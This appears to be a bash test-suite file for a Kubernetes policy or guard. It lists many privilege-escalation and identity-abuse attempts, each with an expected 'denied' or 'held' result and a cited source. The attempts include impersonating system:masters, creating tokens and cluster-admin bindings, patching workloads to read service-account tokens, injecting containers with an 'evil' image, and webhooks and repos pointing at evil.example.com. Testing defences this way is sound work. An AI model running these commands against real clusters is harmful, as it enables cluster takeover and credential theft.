# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash disable=SC2016,SC2154
# Becoming somebody else. See suite.sh for the columns.

row identity/impersonate-person denied 'attack write-ups; RBAC good practices' <<'DO'
reach k --as=alice@example.com get configmaps
DO

row identity/impersonate-system-masters denied 'attack write-ups' <<'DO'
reach k --as=root --as-group=system:masters get configmaps
DO

row identity/impersonate-with-uid-and-extra denied 'API reference impersonation headers' <<'DO'
headers=(-H 'Impersonate-User: alice@example.com' -H 'Impersonate-Uid: 1' -H 'Impersonate-Extra-Scopes: all')
reach api GET "/api/v1/namespaces/$NS/configmaps"
DO

row identity/token-service-account denied 'stratus create-token; MITRE T1528' <<'DO'
k create token robot
DO

row identity/token-kube-system-controller-account denied 'RBAC write-ups (clusterrole-aggregation-controller)' <<'DO'
adm -n kube-system create sa ctl-$NS >/dev/null
k -n kube-system create token ctl-$NS
DO

row identity/secret-type-service-account-token denied 'stratus; MS-TA9016' <<'DO'
echo '{"apiVersion":"v1","kind":"Secret","metadata":{"name":"t","annotations":{"kubernetes.io/service-account.name":"robot"}},"type":"kubernetes.io/service-account-token"}' | k create -f -
DO

row identity/certificatesigningrequest-for-client-certificate held 'stratus create-client-certificate; MITRE T1649' <<'DO'
echo '{"apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequest","metadata":{"name":"'$NS'"},"spec":{"request":"'$CSR'","signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}}' | k create -f -
DO

row identity/approve-somebody-csr held 'RBAC good practices' <<'DO'
echo '{"apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequest","metadata":{"name":"'$NS'"},"spec":{"request":"'$CSR'","signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}}' | adm create -f - >/dev/null
k certificate approve $NS
DO

row identity/clusterrolebinding-cluster-admin denied 'stratus create-admin-clusterrole; MS-TA9019' <<'DO'
k create clusterrolebinding $NS-x --clusterrole=cluster-admin --user=mallory
DO

row identity/rolebinding-clusterrole-admin held 'attack write-ups' <<'DO'
k create rolebinding x --clusterrole=admin --serviceaccount=$NS:default
DO

row identity/clusterrole-aggregates-into-edit held 'RBAC reference (aggregation)' <<'DO'
echo '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"'$NS'","labels":{"rbac.authorization.k8s.io/aggregate-to-view":"true"}},"rules":[{"apiGroups":["apps"],"resources":["deployments"],"verbs":["create"]}]}' | k create -f -
DO

row identity/existing-role-gets-more-rule held 'RBAC write-ups (patch roles)' <<'DO'
adm create role reader --verb=get --resource=pods >/dev/null
k patch role reader --type=json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}}]'
DO

row identity/subject-added-existing-rolebinding held 'attack write-ups' <<'DO'
adm create rolebinding rb --clusterrole=view --user=bob >/dev/null
k patch rolebinding rb --type=json -p '[{"op":"add","path":"/subjects/-","value":{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"mallory"}}]'
DO

row identity/image-and-command-workload-runs-another held 'Redguard matrix' <<'DO'
k patch deployment operator --type=json -p '[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil"},{"op":"add","path":"/spec/template/spec/containers/0/command","value":["sh","-c","cat /var/run/secrets/*/*/token"]}]'
DO

row identity/sidecar-injected-into-workload-another-account held 'MS-TA9011 sidecar injection' <<'DO'
k patch deployment operator --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"side","image":"evil"}}]'
DO

row identity/new-pod-under-strong-service-account held 'MS-TA9016; RBAC good practices (workload creation)' <<'DO'
pod bad '"serviceAccountName":"deployer"' | k create -f -
DO

row identity/configmap-with-script-strong-workload-runs held 'Redguard matrix; MITRE T1525-like' <<'DO'
k patch configmap operator-scripts --type=merge -p '{"data":{"run.sh":"cat /var/run/secrets/kubernetes.io/serviceaccount/token"}}'
DO

row identity/aws-role-on-service-account held 'EKS IRSA' <<'DO'
k annotate sa default eks.amazonaws.com/role-arn=arn:aws:iam::1:role/admin
DO

row identity/new-serviceaccount-with-azure-workload-identity held 'attack write-ups' <<'DO'
echo '{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"az","annotations":{"azure.workload.identity/client-id":"11111111-1111-1111-1111-111111111111"}}}' | k create -f -
DO

row identity/aws-auth-mapping-kube-system denied 'EKS; stratus eks family' <<'DO'
k -n kube-system create configmap aws-auth-$NS --from-literal=mapUsers='[{"userarn":"x","groups":["system:masters"]}]'
DO

row identity/crd-with-conversion-webhook-sees-every held 'CRD reference' <<'DO'
echo '{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"things.'$NS'.example.com"},"spec":{"group":"'$NS'.example.com","scope":"Namespaced","names":{"plural":"things","kind":"Thing"},"versions":[{"name":"v1","served":true,"storage":true,"schema":{"openAPIV3Schema":{"type":"object"}}}],"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://evil.example.com/"}}}}}' | k create -f -
DO

row identity/custom-resource-makes-strong-operator-act held 'Redguard matrix (confused deputy)' <<'DO'
echo '{"apiVersion":"gitops.example.com/v1","kind":"Application","metadata":{"name":"evil"},"spec":{"repo":"https://evil.example.com/x.git","serviceAccountName":"deployer","prune":true}}' | k create -f -
DO

row identity/impersonate-a-service-account denied 'RBAC good practices' <<'DO'
reach k --as=system:serviceaccount:kube-system:default get configmaps
DO

row identity/impersonate-a-node denied 'RBAC good practices' <<'DO'
reach k --as=system:node:n1 --as-group=system:nodes get configmaps
DO

row identity/ask-who-one-would-be denied 'kubectl auth whoami --as' <<'DO'
reach k --as=root --as-group=system:masters auth can-i '*' '*'
DO

row identity/token-for-an-audience denied 'TokenRequest' <<'DO'
api POST "/api/v1/namespaces/$NS/serviceaccounts/robot/token" application/json '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"audiences":["sts.amazonaws.com"],"expirationSeconds":86400}}'
DO

row identity/token-as-a-dry-run denied 'TokenRequest' <<'DO'
api POST "/api/v1/namespaces/$NS/serviceaccounts/robot/token?dryRun=All" application/json '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{}}'
DO

row identity/token-in-its-own-namespace denied 'TokenRequest' own <<'DO'
k create token robot
DO

row identity/bootstrap-token denied 'kubeadm' <<'DO'
obj v1 Secret bootstrap-token-abcdef '"type":"bootstrap.kubernetes.io/token","stringData":{"token-id":"abcdef"}' | k create -f -
DO

row identity/token-of-somebody-reviewed held 'TokenReview' <<'DO'
api POST /apis/authentication.k8s.io/v1/tokenreviews application/json '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenReview","spec":{"token":"x"}}'
DO

row identity/certificate-of-a-node held 'stratus; kubelet TLS bootstrapping' <<'DO'
obj certificates.k8s.io/v1 CertificateSigningRequest "$NS" '"spec":{"request":"'$CSR'","signerName":"kubernetes.io/kube-apiserver-client-kubelet","usages":["client auth"]}' | k create -f -
DO

row identity/certificate-written-into-a-request held 'RBAC good practices' <<'DO'
obj certificates.k8s.io/v1 CertificateSigningRequest "$NS" '"spec":{"request":"'$CSR'","signerName":"example.com/x","usages":["client auth"]}' | adm create -f - >/dev/null
api PATCH "/apis/certificates.k8s.io/v1/certificatesigningrequests/$NS/status" application/merge-patch+json '{"status":{"certificate":"'"$(openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout /dev/null -subj /CN=mallory 2>/dev/null | base64 -w0)"'"}}'
DO

row identity/role-that-escalates denied 'RBAC good practices (escalate)' <<'DO'
k create clusterrole $NS --verb=escalate --resource=clusterroles
DO

row identity/role-that-impersonates denied 'RBAC good practices (impersonate)' <<'DO'
obj rbac.authorization.k8s.io/v1 ClusterRole "$NS" '"rules":[{"apiGroups":[""],"resources":["users"],"verbs":["impersonate"]}]' | k create -f -
DO

row identity/role-that-impersonates-on-conditions denied 'KEP-5284 constrained impersonation' <<'DO'
obj rbac.authorization.k8s.io/v1 ClusterRole "$NS" '"rules":[{"apiGroups":[""],"resources":["serviceaccounts"],"verbs":["impersonate:serviceaccount","impersonate-on:serviceaccount:create"]}]' | k create -f -
DO

row identity/role-with-every-verb denied 'MS-TA9019' <<'DO'
k create role all --verb='*' --resource=pods
DO

row identity/role-that-reads-secrets held 'stratus create-admin-clusterrole' <<'DO'
k create role s --verb=get --resource=secrets
DO

row identity/rights-for-everybody denied 'CIS 5.1; MITRE T1098.006' <<'DO'
k create clusterrolebinding $NS --clusterrole=view --group=system:authenticated
DO

row identity/rights-for-anonymous denied 'CIS 5.1' <<'DO'
k create rolebinding anon --clusterrole=view --user=system:anonymous
DO

row identity/account-bound-to-a-role held 'MITRE T1098.006' <<'DO'
k create rolebinding r --clusterrole=edit --serviceaccount=$NS:robot
DO

row identity/aggregated-role held 'RBAC reference (aggregation)' <<'DO'
obj rbac.authorization.k8s.io/v1 ClusterRole "$NS" '"aggregationRule":{"clusterRoleSelectors":[{"matchLabels":{"a":"b"}}]},"rules":[]' | k create -f -
DO

row identity/google-role-on-an-account held 'GKE Workload Identity' <<'DO'
k annotate sa robot iam.gke.io/gcp-service-account=admin@p.iam.gserviceaccount.com
DO

row identity/cloud-role-on-an-account-in-its-own-namespace held 'EKS IRSA' own <<'DO'
k annotate sa robot eks.amazonaws.com/role-arn=arn:aws:iam::1:role/admin
DO

row identity/azure-identity-by-a-pods-label held 'Azure Workload Identity' <<'DO'
pod az | jq -c '.metadata.labels["azure.workload.identity/use"] = "true"' | k create -f -
DO

row identity/role-by-a-pods-annotation held 'kube2iam, kiam' <<'DO'
pod az | jq -c '.metadata.annotations["iam.amazonaws.com/role"] = "admin"' | k create -f -
DO

row identity/pull-secret-of-an-account held 'service accounts' <<'DO'
k patch sa default -p '{"imagePullSecrets":[{"name":"db"}]}'
DO

row identity/image-of-a-running-pod held 'kubectl set image pod' <<'DO'
k set image pod/opod c=evil
DO

row identity/image-of-a-running-pod-without-rights held 'kubectl set image pod' <<'DO'
k set image pod/p1 c=evil
DO

row identity/variable-that-loads-a-library held 'LD_PRELOAD' <<'DO'
k set env deployment/operator LD_PRELOAD=/tmp/x.so
DO

row identity/arguments-of-a-strong-workload held 'MITRE T1610' <<'DO'
k patch deployment operator --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/args","value":["--kubeconfig=/evil"]}]'
DO

row identity/hook-in-a-strong-workload held 'container lifecycle hooks' <<'DO'
k patch deployment operator --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/lifecycle","value":{"postStart":{"exec":{"command":["id"]}}}}]'
DO

row identity/init-container-in-a-strong-workload held 'MS-TA9011' <<'DO'
k patch deployment operator --type=json -p '[{"op":"add","path":"/spec/template/spec/initContainers","value":[{"name":"i","image":"evil"}]}]'
DO

row identity/job-under-a-strong-account held 'MS-TA9016' <<'DO'
load Job bad '"restartPolicy":"Never","serviceAccountName":"deployer"' | k create -f -
DO

row identity/cronjob-under-a-strong-account held 'MS-TA9014' <<'DO'
load CronJob bad '"restartPolicy":"Never","serviceAccountName":"deployer"' | k create -f -
DO

row identity/account-by-its-old-name held 'API reference (serviceAccount)' <<'DO'
load StatefulSet bad '"serviceAccount":"deployer"' | k create -f -
DO

row identity/account-of-an-existing-workload held 'kubectl set serviceaccount' <<'DO'
k set serviceaccount deployment web deployer
DO

row identity/api-service denied 'MS-TA9015; aggregation' <<'DO'
# A dry run: a real one would break discovery for the rows beside it.
obj apiregistration.k8s.io/v1 APIService "v1.$NS.example.com" '"spec":{"group":"'$NS'.example.com","version":"v1","groupPriorityMinimum":100,"versionPriority":100,"insecureSkipTLSVerify":true,"service":{"name":"evil","namespace":"'$NS'"}}' | k create --dry-run=server -f -
DO

row identity/custom-resource-definition held 'RBAC good practices' <<'DO'
adm get crd applications.gitops.example.com -o json >"$T.json"
k label crd applications.gitops.example.com a=$NS
DO

row identity/dns-of-the-cluster denied 'stratus; CoreDNS poisoning' <<'DO'
k -n kube-system create configmap coredns-$NS --from-literal=Corefile=evil
DO

row identity/root-certificate-of-a-namespace held 'RootCAConfigMap' <<'DO'
adm create configmap kube-root-ca.crt --from-literal=ca.crt=good >/dev/null 2>&1 || true
k patch configmap kube-root-ca.crt --type=merge -p '{"data":{"ca.crt":"evil"}}'
DO

row identity/script-added-to-a-configmap held 'MITRE T1525' <<'DO'
k patch configmap operator-scripts --type=merge -p '{"data":{"post.sh":"id"}}'
DO

row identity/custom-resource-changed held 'confused deputy' <<'DO'
obj gitops.example.com/v1 Application a "\"spec\":{\"prune\":false}" | adm create -f - >/dev/null
k patch applications.gitops.example.com a --type=merge -p '{"spec":{"prune":true}}'
DO

row identity/azure-identity-by-a-bare-label held 'aad-pod-identity' <<'DO'
pod thief | jq -c '.metadata.labels = {"aadpodidbinding":"payroll"}' | k create -f -
DO

row identity/windows-group-managed-account held 'KEP-689' <<'DO'
pod thief '"securityContext":{"windowsOptions":{"gmsaCredentialSpecName":"payroll"}}' | k create -f -
DO

row identity/script-of-others-as-bytes held 'MITRE T1525' <<'DO'
adm -n "$NS" patch configmap operator-scripts --type=merge -p '{"binaryData":{"start":"YQ=="}}' >/dev/null
k patch configmap operator-scripts --type=merge -p '{"binaryData":{"start":"IyEvYmluL3NoCg=="}}'
DO

row identity/replicaset-of-a-deployment-rewritten held 'own' <<'DO'
adm -n "$NS" patch replicaset rs1 --type=merge -p '{"metadata":{"ownerReferences":[{"apiVersion":"apps/v1","kind":"Deployment","name":"web","uid":"00000000-0000-0000-0000-000000000001","controller":true}]}}' >/dev/null
k set image replicaset/rs1 '*=evil.example.com/x'
DO

row identity/account-loses-its-cloud-role held 'own' <<'DO'
adm annotate sa robot eks.amazonaws.com/role-arn=arn:aws:iam::1:role/app >/dev/null
k annotate sa robot eks.amazonaws.com/role-arn-
DO

row identity/script-by-its-usual-name held 'own' <<'DO'
adm patch configmap cfg --type=merge -p '{"data":{"entrypoint":"exec app"}}' >/dev/null
k patch configmap cfg --type=merge -p '{"data":{"entrypoint":"exec other"}}'
DO

row identity/program-in-a-configmap held 'own' <<'DO'
adm patch configmap cfg --type=merge -p '{"binaryData":{"plugin":"f0VMRgE="}}' >/dev/null
k patch configmap cfg --type=merge -p '{"binaryData":{"plugin":"f0VMRgI="}}'
DO
